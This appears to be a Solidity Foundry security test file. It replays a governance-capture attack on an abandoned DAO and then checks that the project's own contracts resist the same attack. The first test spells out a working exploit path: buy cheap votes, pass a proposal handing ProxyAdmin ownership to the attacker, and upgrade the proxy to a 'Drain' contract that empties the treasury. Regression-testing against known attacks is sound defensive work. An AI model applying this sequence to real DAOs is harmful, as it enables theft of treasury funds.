// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.35;

import {ProxyAdmin} from "@openzeppelin/contracts/proxy/transparent/ProxyAdmin.sol";
import {
    ITransparentUpgradeableProxy,
    TransparentUpgradeableProxy
} from "@openzeppelin/contracts/proxy/transparent/TransparentUpgradeableProxy.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Errors} from "@openzeppelin/contracts/utils/Errors.sol";

import {Motion} from "../SystemTest.t.sol";
import {AttackTest} from "./AttackTest.t.sol";
import {StockDao, Terms} from "./controls/StockDao.t.sol";

/// @dev Holds money and pays nobody.
contract Holder {
    function version() external pure returns (uint256) {
        return 1;
    }
}

contract Drain {
    function drain(IERC20 token, address to) external {
        assert(token.transfer(to, token.balanceOf(address(this))));
    }
}

/// @notice StrongBlock, August 2026: an abandoned Governor, cheap votes, and the right to upgrade changed hands; 72,000 dollars.
contract StrongBlock2026Test is AttackTest {
    function test_controlAnAbandonedGovernorHandsOverTheUpgrades() public {
        Terms memory terms = _stockTerms();
        terms.supply = 500_000e18;
        StockDao stock = _stockDao(terms);
        address proxy = address(
            new TransparentUpgradeableProxy(
                address(new Holder()), address(stock.timelock()), abi.encodeCall(Holder.version, ())
            )
        );
        // As EIP-1967 stores it.
        ProxyAdmin admin = ProxyAdmin(
            address(uint160(uint256(vm.load(proxy, bytes32(uint256(keccak256("eip1967.proxy.admin")) - 1)))))
        );
        _give(proxy, TREASURY);
        _hold(stock.votes(), attacker, 21_000e18);
        vm.warp(block.timestamp + 1);
        bytes memory data = abi.encodeCall(admin.transferOwnership, (attacker));
        _capture(stock.governor(), attacker, _motion(address(admin), data, "Hand over"));
        address drain = address(new Drain());
        vm.prank(attacker);
        admin.upgradeAndCall(ITransparentUpgradeableProxy(proxy), drain, abi.encodeCall(Drain.drain, (token, attacker)));
        assertEq(token.balanceOf(attacker), TREASURY);
    }

    /// @dev All that still vote, in an abandoned DAO, are below the floor: see also Swerve. Above it, there is nothing to upgrade.
    function test_oursHasNoUpgradeToHandOver() public {
        _settled(attacker, 50_000_000e18);
        address drain = address(new Drain());
        address[5] memory holders =
            [address(treasury), address(rewards), address(registry), address(router), address(votes)];
        bytes[2] memory attempts = [
            abi.encodeWithSignature("setPendingAdmin(address)", attacker),
            abi.encodeWithSignature(
                "upgradeToAndCall(address,bytes)", drain, abi.encodeCall(Drain.drain, (token, attacker))
            )
        ];
        for (uint256 i = 0; i < holders.length; ++i) {
            for (uint256 j = 0; j < attempts.length; ++j) {
                Motion memory motion = _untilExecution(attacker, _motion(holders[i], attempts[j], "Hand over"));
                vm.expectRevert(Errors.FailedCall.selector);
                _execute(motion);
            }
        }
        _assertUntouched();
    }
}
